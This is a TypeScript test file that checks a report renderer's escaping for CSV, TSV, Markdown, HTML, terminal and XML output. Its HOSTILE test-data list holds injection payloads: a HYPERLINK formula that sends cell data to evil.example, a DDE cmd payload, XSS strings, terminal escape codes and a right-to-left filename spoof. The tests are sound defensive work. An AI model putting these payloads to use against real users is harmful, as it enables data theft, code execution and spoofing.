import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { delimited } from '../../src/render/delimited.ts';
import { plain, quoted, sentenceParts, xml } from '../../src/render/escape.ts';
import { htmlOf } from '../../src/render/html.ts';
import { markdownOf } from '../../src/render/markdown.ts';
import { numberColumn, type Page, type Table, textColumn } from '../../src/render/sheet.ts';

const tableWith = (name: string): Table => ({
  title: undefined,
  columns: [textColumn('workflow', 'Workflow'), numberColumn('runs', 'Runs')],
  rows: [
    {
      cells: [
        { kind: 'text', text: name },
        { kind: 'count', value: 3 },
      ],
      isTotal: false,
      block: '',
    },
  ],
  addsAcross: false,
});
const pageWith = (name: string): Page => ({
  title: 'Cost per run',
  conclusion: [],
  tables: [tableWith(name)],
  notes: [],
});

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '@cf/meta/llama-4',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\u001b[2J\u001b]0;owned\u0007',
  'two\nlines\r\nthree',
  'a|b|c',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '`code` **bold** _it_ ~~no~~ $x$ #1',
  '\u202Egnp.exe',
  '\u200b\ufeffhidden',
  '"quoted","cells"',
];
const anyName = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({
    unit: fc.constantFrom(
      '=',
      '＝',
      '+',
      '-',
      '@',
      '|',
      '\n',
      '\r',
      '\t',
      '"',
      "'",
      ',',
      ';',
      '\\',
      '<',
      '`',
      ' ',
      'a',
      '\u001b',
      '\u202e',
    ),
  }),
  fc.string({ unit: 'binary' }),
);

describe('a name from a log', () => {
  it.each(HOSTILE)('%j runs nowhere', (name) => {
    const rows: string[][] = parse(delimited(tableWith(name), ',', 'point'));
    const csvName = rows[1]?.[0];
    expect(csvName).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    expect(htmlOf(pageWith(name))).not.toMatch(/<(script|img)|\u001b/);
    expect(htmlOf(pageWith(name))).not.toMatch(/<td>\s*[=+\-@＝＋－＠]/);
    expect(markdownOf(pageWith(name))).not.toMatch(/<(script|img)|\u001b|(?<!\\)\[click/);
  });

  it('is a row of two cells in CSV and TSV, whatever it holds', () => {
    fc.assert(
      fc.property(anyName, fc.constantFrom(',', '\t', ';'), (name, delimiter) => {
        const rows: string[][] = parse(delimited(tableWith(name), delimiter, 'point'), { delimiter });
        expect(rows.map((cells) => cells.length)).toEqual([2, 2]);
        expect(rows[1]?.[1]).toBe('3');
        expect(rows[1]?.[0]).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
    );
  });

  it('is one line of two cells in Markdown, whatever it holds', () => {
    fc.assert(
      fc.property(anyName, (name) => {
        const lines = markdownOf(pageWith(name)).split('\n');
        const row = lines[lines.findIndex((line) => line.startsWith('| ---')) + 1] ?? '';
        expect(row).toMatch(/^\| .* \| 3 \|$/s);
        expect(row.split(/(?<!\\)\|/)).toHaveLength(4);
        expect(row).not.toMatch(/[@<>]/);
      }),
    );
  });

  it('is text in HTML, whatever it holds', () => {
    fc.assert(
      fc.property(anyName, (name) => {
        const cell = /<tbody>\n<tr><td>(.*?)<\/td><td class="number">3<\/td><\/tr>\n<\/tbody>/s.exec(
          htmlOf(pageWith(name)),
        );
        expect(cell?.[1]).not.toMatch(/[<>"]/);
      }),
    );
  });

  it('has no control, no invisible and no turning characters on a terminal', () => {
    fc.assert(
      fc.property(anyName, (name) => {
        expect(plain(name)).not.toMatch(
          /[\p{Cc}\p{Zl}\p{Zp}\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u,
        );
      }),
    );
  });

  it('keeps what is only unusual', () => {
    expect(plain('Rückfrage 日本語 é ½ €')).toBe('Rückfrage 日本語 é ½ €');
  });
});

describe('a name quoted in a sentence', () => {
  const withConclusion = (name: string): Page => ({
    ...pageWith('triage'),
    conclusion: [`${quoted(name)} costs 5 c a run.`],
  });

  it.each([
    ['triage', '`triage`'],
    ['a`b', '``a`b``'],
    ['`x`', '`` `x` ``'],
    ['a``b`c', '```a``b`c```'],
  ])('%s is %s: one code span of CommonMark', (name, span) => {
    expect(quoted(name)).toBe(span);
    expect(markdownOf(withConclusion(name))).toContain(`\n${span} costs 5 c a run.\n`);
  });

  it('comes out of its sentence as it went in, whatever it holds', () => {
    const name = fc.string({ unit: fc.constantFrom('`', ' ', 'a', '<'), minLength: 1 });
    fc.assert(
      fc.property(
        name.filter((text) => text.trim() !== ''),
        (text) => {
          const parts = sentenceParts(`${quoted(text)} costs 5 c a run.`);
          expect(parts.filter(({ isName }) => isName).map((part) => part.text)).toEqual([text]);
          expect(parts.at(-1)?.text).toBe(' costs 5 c a run.');
        },
      ),
    );
  });

  it.each(['@cf/meta/llama-4', '=1+1', '＝1+1', '-2+3'])('%s begins no formula in HTML', (name) => {
    expect(htmlOf(withConclusion(name))).toContain(`<p><code>&#39;${name}</code> costs`);
  });

  it('is no markup in HTML', () => {
    expect(htmlOf(withConclusion('<img src=x>'))).not.toContain('<img');
  });
});

describe('text of XML', () => {
  it.each([
    ['<a b="c">', '&#60;a b=&#34;c&#34;&#62;'],
    ["it's R&D", 'it&#39;s R&#38;D'],
    ['two\nlines\u0000', 'two\\nlines\\u0000'],
    ['half \ud800, none \uffff, whole 🚀', 'half \ufffd, none \ufffd, whole 🚀'],
  ])('%j', (text, escaped) => {
    expect(xml(text)).toBe(escaped);
  });
});
